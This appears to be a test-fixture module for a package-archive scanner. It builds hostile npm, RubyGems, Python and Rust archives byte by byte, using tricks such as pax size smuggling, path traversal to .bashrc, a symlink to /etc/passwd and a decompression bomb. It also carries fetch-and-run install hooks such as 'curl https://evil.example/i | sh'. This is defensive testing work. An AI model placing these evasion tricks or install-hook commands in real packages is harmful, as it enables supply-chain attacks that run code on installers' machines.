// Hostile package archives (issue #20 class 1, issue #23), built byte by byte at test time. Each
// case says what inert must do: exit 2 naming the archive (`error`), or report exactly `findings`
// (check and path) from the files the client would install. Run by packages/cli/src/adversarial-archives.test.ts.
import { gzipSync } from 'node:zlib';
import { base256, file, header, negative256, pax, tar, tgz } from './tar-builder.mjs';

const EVIL = JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { postinstall: 'curl https://evil.example/i | sh' } });
const BENIGN = JSON.stringify({ name: 'evil', version: '1.0.0' });
const body = (text) => Buffer.from(text.padEnd(Math.ceil(text.length / 512) * 512, '\0'));
const hook = [{ check: 'npm/root-install-scripts', path: 'package.json' }];

/** @returns {{ name: string, file: string, description: string, bytes: Buffer, error?: string, findings?: { check: string, path: string }[] }[]} */
export function archiveCases() {
  return [
    { name: 'pax-size-hides-manifest', file: 'evil-1.0.0.tgz', description: 'The ustar header says 0 bytes, a pax header says the real size (node-tar honours it): the hook manifest is what npm installs.',
      bytes: tgz(pax({ size: Buffer.byteLength(EVIL) }), header({ name: 'package/package.json', size: 0 }), body(EVIL)), findings: hook },
    { name: 'base256-size', file: 'evil-1.0.0.tgz', description: 'A base-256 size field (GNU extension) is read, not taken for an empty file.',
      bytes: tgz(header({ name: 'package/package.json', sizeBytes: base256(Buffer.byteLength(EVIL)) }), body(EVIL)), findings: hook },
    { name: 'last-entry-wins', file: 'evil-1.0.0.tgz', description: 'A benign package.json first, the hook one last at the same path: npm writes both in order, the last one stays.',
      bytes: tgz(file('package/package.json', BENIGN), file('package/./package.json', EVIL)), findings: hook },
    { name: 'any-top-directory', file: 'evil-1.0.0.tgz', description: 'npm strips the first segment whatever it is called (strip: 1), not only package/.',
      bytes: tgz(file('not-package/package.json', EVIL)), findings: hook },
    { name: 'symlinked-manifest', file: 'evil-1.0.0.tgz', description: 'package.json as a symlink to /etc/passwd: npm does not write links; reported, never followed.',
      bytes: tgz(file('package/index.js', ''), header({ name: 'package/package.json', type: '2', linkname: '/etc/passwd' })), findings: [{ check: 'core/symlink-not-followed', path: 'package.json' }] },
    { name: 'dot-dot-entry', file: 'evil-1.0.0.tgz', description: "An entry with a '..' segment: npm skips it; reported where it would have gone.",
      bytes: tgz(file('package/package.json', BENIGN), file('package/../../.bashrc', 'curl x | sh')), findings: [{ check: 'core/unparsed-file', path: '../../.bashrc' }] },
    { name: 'not-gzip', file: 'evil-1.0.0.tgz', description: 'Named .tgz, holds text.', bytes: Buffer.from('<html>not found</html>\n'.repeat(40)), error: 'evil-1.0.0.tgz' },
    { name: 'empty', file: 'evil-1.0.0.tgz', description: 'An empty file.', bytes: Buffer.alloc(0), error: 'the file is empty' },
    { name: 'truncated-gzip', file: 'evil-1.0.0.tgz', description: 'The gzip stream ends early.', bytes: tgz(file('package/package.json', EVIL), file('package/a.js', 'x'.repeat(3000))).subarray(0, 80), error: 'unexpected end of file' },
    { name: 'truncated-tar', file: 'evil-1.0.0.tar', description: 'A plain tar cut inside an entry.', bytes: tar(file('package/package.json', EVIL)).subarray(0, 600), error: 'Truncated input' },
    { name: 'bad-checksum', file: 'evil-1.0.0.tgz', description: 'A header whose checksum does not match.', bytes: tgz(header({ name: 'package/package.json', size: Buffer.byteLength(EVIL), checksum: false }), body(EVIL)), error: 'checksum' },
    { name: 'negative-size', file: 'evil-1.0.0.tgz', description: 'A negative base-256 size.', bytes: tgz(header({ name: 'package/package.json', sizeBytes: negative256(1) }), body(EVIL)), error: 'TAR_ENTRY_INVALID' },
    { name: 'decompression-bomb', file: 'evil-1.0.0.tgz', description: '40 MB of zeros in a 40 KB gzip: over node-tar\'s 1000:1 ratio.', bytes: tgz(file('package/package.json', BENIGN), file('package/blob', Buffer.alloc(40 * 1024 * 1024))), error: 'decompression ratio' },
    { name: 'gem-two-data', file: 'evil-1.0.0.gem', description: 'A gem with two data.tar.gz: which one RubyGems installs is ambiguous.',
      bytes: tar(file('metadata.gz', gzipSync('--- !ruby/object:Gem::Specification\nname: evil\n')), file('data.tar.gz', tgz(file('lib/a.rb', ''))), file('data.tar.gz', tgz(file('ext/extconf.rb', 'system("curl x | sh")')))), error: 'appears 2 times' },
    { name: 'gem-no-data', file: 'evil-1.0.0.gem', description: 'A gem without data.tar.gz.', bytes: tar(file('metadata.gz', gzipSync('---\n'))), error: 'no data.tar.gz' },
    { name: 'gem-truncated-data', file: 'evil-1.0.0.gem', description: "The gem's data.tar.gz is cut short.", bytes: tar(file('metadata.gz', gzipSync('---\n')), file('data.tar.gz', tgz(file('lib/a.rb', 'x'.repeat(5000))).subarray(0, 40))), error: 'data.tar.gz' },
    { name: 'sdist-not-gzip', file: 'evil-1.0.0.tar.gz', description: 'An sdist that is not gzip.', bytes: Buffer.from('PK\u0003\u0004 not a tar'.repeat(50)), error: 'evil-1.0.0.tar.gz' },
    { name: 'crate-truncated', file: 'evil-0.1.0.crate', description: 'A crate cut short.', bytes: tgz(file('evil-0.1.0/Cargo.toml', '[package]\nname = "evil"\n'), file('evil-0.1.0/build.rs', 'x'.repeat(4000))).subarray(0, 70), error: 'evil-0.1.0.crate' },
    { name: 'wheel-not-zip', file: 'evil-1.0-py3-none-any.whl', description: 'A wheel that is not a ZIP.', bytes: Buffer.from('not a zip at all'), error: 'evil-1.0-py3-none-any.whl' },
  ];
}
